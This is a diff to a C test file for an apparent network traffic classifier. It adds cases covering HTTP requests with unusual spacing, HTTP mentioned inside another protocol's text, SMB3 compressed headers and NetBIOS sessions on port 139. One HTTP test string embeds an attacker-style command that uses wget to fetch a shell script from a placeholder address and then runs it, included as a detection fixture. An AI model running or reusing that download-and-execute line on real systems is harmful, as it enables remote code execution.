@@ -74,6 +74,21 @@ static void http_rpc(struct talk *t)
 	say_text(t, 0, "RPC_IN_DATA /rpc/rpcproxy.dll?srv:6001 HTTP/1.1\r\n\r\n");
 }
 
+static void http_blanks(struct talk *t) /* servers accept them, and attackers send them */
+{
+	say_text(t, 0, "GET /run?cd /tmp; wget http://192.0.2.9/x.sh; sh x.sh HTTP/1.1\r\n\r\n");
+}
+
+static void http_more_blanks(struct talk *t)
+{
+	say_text(t, 0, "GET  /  HTTP/1.0 \r\n\r\n");
+}
+
+static void http_in_a_sentence(struct talk *t)
+{
+	say_text(t, 0, "NOTICE all: HTTP/1.1 is meant\r\nGET / HTTP/1.1\r\n\r\n");
+}
+
 static void http_answer_alone(struct talk *t)
 {
 	say_text(t, 0, "HTTP/1.1 200 OK\r\n\r\n");
@@ -472,6 +487,46 @@ static void smb3_encrypted(struct talk *t)
 	add_fill(t, 92, 0);
 }
 
+static void smb3_compressed(struct talk *t)
+{
+	say(t, 0);
+	add(t, "\x00\x00\x00\x60\xFCSMB", 8);
+	add_fill(t, 92, 0);
+}
+
+/* Port 139: names of 32 letters, the answer, then SMB or something else. */
+static void open_session(struct talk *t)
+{
+	say(t, 0);
+	add(t, "\x81\x00\x00\x44", 4);
+	for (int i = 0; i < 2; i++) {
+		add8(t, 32);
+		add_text(t, "EGEFDADBCACACACACACACACACACACACA");
+		add8(t, 0);
+	}
+	SAY_BYTES(t, 1, 0x82, 0, 0, 0);
+}
+
+static void smb_session(struct talk *t)
+{
+	open_session(t);
+	smb1(t);
+	say(t, 1);
+	add(t, "\x00\x00\x00\x23\xFFSMB\x72\x00\x00\x00\x00\x98\x53\xC8", 16);
+	add_fill(t, 23, 0);
+}
+
+static void netbios_session(struct talk *t)
+{
+	open_session(t);
+	say(t, 0);
+	add(t, "\x00\x00\x00\x40", 4);
+	add_fill(t, 64, 0x21);
+	say(t, 1);
+	add(t, "\x00\x00\x00\x40", 4);
+	add_fill(t, 64, 0x31);
+}
+
 static void tds(struct talk *t)
 {
 	SAY_BYTES(t, 0, 0x12, 1, 0, 0x2F, 0, 0, 0, 0, 0, 0, 0x1A, 0, 6, 1, 0, 0x20, 0, 1, 2, 0,
@@ -557,6 +612,12 @@ static const struct tcp_case cases[] = {
 	  0 },
 	{ "HTTP POST", http_post, { .app = LYA_APP_HTTP, .client = 0, .service = true }, 0 },
 	{ "RPC over HTTP", http_rpc, { .app = LYA_APP_HTTP, .client = 0, .service = true }, 0 },
+	{ "HTTP, blanks in the target", http_blanks, { .app = LYA_APP_HTTP, .client = 0 }, 0 },
+	{ "HTTP, more blanks than due", http_more_blanks, { .app = LYA_APP_HTTP, .client = 0 }, 0 },
+	{ "HTTP named in a sentence",
+	  http_in_a_sentence,
+	  { .app = LYA_APP_UNKNOWN, .client = -1, .service = true },
+	  LYA_APP_HTTP },
 	{ "HTTP answer alone", http_answer_alone, { .app = LYA_APP_HTTP, .client = 1 }, 0 },
 	{ "XMPP, STARTTLS",
 	  xmpp_starttls,
@@ -677,6 +738,18 @@ static const struct tcp_case cases[] = {
 	{ "SMB 3 encrypted",
 	  smb3_encrypted,
 	  { .app = LYA_APP_SMB, .client = -1, .service = true },
+	  0 },
+	{ "SMB 3 compressed",
+	  smb3_compressed,
+	  { .app = LYA_APP_SMB, .client = -1, .service = true },
+	  0 },
+	{ "SMB in a NetBIOS session",
+	  smb_session,
+	  { .app = LYA_APP_SMB, .client = 0, .service = true },
+	  0 },
+	{ "NetBIOS session of another kind",
+	  netbios_session,
+	  { .app = LYA_APP_UNKNOWN, .client = -1, .service = true },
 	  0 },
 	{ "TDS pre-login", tds, { .app = LYA_APP_TDS, .client = 0, .service = true }, 0 },
 	{ "RDP", rdp, { .app = LYA_APP_RDP, .client = 0, .service = true }, 0 },
